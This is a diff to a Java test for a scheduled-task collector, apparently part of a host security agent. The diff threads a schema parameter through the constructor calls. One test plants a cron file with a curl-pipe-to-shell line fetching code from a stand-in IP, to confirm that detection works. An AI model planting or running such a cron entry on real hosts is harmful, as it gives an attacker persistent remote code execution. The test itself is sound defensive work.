@@ -7,6 +7,7 @@ import static io.agent7.agent.collect.linux.Fields.text;
 import static io.agent7.agent.collect.linux.Fields.texts;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.agent7.schema.Schema;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
@@ -27,7 +28,7 @@ class ScheduledTaskCollectorTest {
     @BeforeEach
     void collect() throws Exception {
         root = fixture.root();
-        docs = new ScheduledTaskCollector(root).collect();
+        docs = new ScheduledTaskCollector(Schema.standard(), root).collect();
     }
 
     private ObjectNode task(String path) {
@@ -139,14 +140,17 @@ class ScheduledTaskCollectorTest {
     void aCronFilePlantedInARootIsFound() throws Exception {
         Files.writeString(
                 root.resolve("etc/cron.d/planted"), "* * * * * nobody /usr/bin/curl -s http://198.51.100.7/x | sh\n");
-        ObjectNode planted =
-                only(new ScheduledTaskCollector(root).collect(), "scheduled_task.path", "/etc/cron.d/planted:1");
+        ObjectNode planted = only(
+                new ScheduledTaskCollector(Schema.standard(), root).collect(),
+                "scheduled_task.path",
+                "/etc/cron.d/planted:1");
         assertThat(text(planted, "user.name")).isEqualTo("nobody");
         assertThat(text(planted, "process.command_line")).contains("198.51.100.7");
     }
 
     @Test
     void aHostWithoutCronOrSystemdHasNoTasks(@TempDir Path empty) {
-        assertThat(new ScheduledTaskCollector(empty).collect()).isEmpty();
+        assertThat(new ScheduledTaskCollector(Schema.standard(), empty).collect())
+                .isEmpty();
     }
 }
